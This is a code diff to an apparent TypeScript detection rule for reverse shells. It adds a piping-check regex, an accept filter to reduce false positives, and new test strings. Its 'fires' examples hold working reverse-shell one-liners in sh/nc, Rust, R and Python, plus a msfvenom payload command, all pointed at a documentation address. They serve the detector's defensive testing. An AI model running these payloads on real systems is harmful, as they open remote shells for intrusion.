@@ -1,5 +1,8 @@
 import type { Rule } from '../../rule.js';
 
+/** A shell with nothing but options and what it reads; not one that runs a script, nor the language of a block of code. */
+const IS_PIPED = /^(?:\/bin\/)?\w+(?:[ \t]+-\w+|[ \t]*\d?[<>]{1,2}[ \t]*&?[ \t]*[\w./-]+)*[ \t]*\|/;
+
 export const rule: Rule = {
   pattern: 'reverse_shell',
   variant: 'more-code',
@@ -37,6 +40,7 @@ export const rule: Rule = {
     {
       re: /(?:\/bin\/)?(?:ba|z|da|k)?sh\s+(?:-i\s+)?(?:[<>&\d\s/\w.-]*)\|\s*(?:\/\w+\/)*(?:nc|ncat|telnet|openssl\s+s_client|socat)\s/,
       window: 160,
+      accept: ({ text, before }) => IS_PIPED.test(text) && !/[\w.-]$/.test(before),
     },
     {
       re: /(?<![\w-])(?:nc|ncat|netcat|telnet)\s[^\n|;]*\|\s*(?:\/bin\/)?(?:ba|z|da)?sh\s*(?:-i\s*)?(?:\d?>&\d\s*)?\|\s*(?:nc|ncat|netcat|telnet)\s/,
@@ -59,6 +63,7 @@ export const rule: Rule = {
   ],
   examples: {
     fires: [
+      'sh </tmp/f 2>&1 | nc 203.0.113.7 4444',
       'let s = TcpStream::connect("203.0.113.7:4444").unwrap(); Command::new("/bin/sh").stdin(s)',
       'R -e "s<-socketConnection(\'203.0.113.7\',4444);system(readLines(s,1))"',
       "import socket,os;s=socket.socket();s.connect(('203.0.113.7',4444))\nwhile 1: os.popen(s.recv(1024).decode())",
@@ -75,6 +80,8 @@ export const rule: Rule = {
       'msfvenom -p linux/x64/shell_reverse_tcp LHOST=203.0.113.7 LPORT=4444 -f elf',
     ],
     silent: [
+      '```bash\necho | openssl s_client -connect example.com:443 -showcerts\n```',
+      'sh ./report.sh --all | nc graphite.example 2003',
       'client = createRSocketTcpClient();\nassertThat(server).isNotNull();\nserver.start();',
       'using var client = new TcpClient("stranger.invalid", 443);\nwatch.Start();',
       'socket -p 8080 is the port that it listens on',
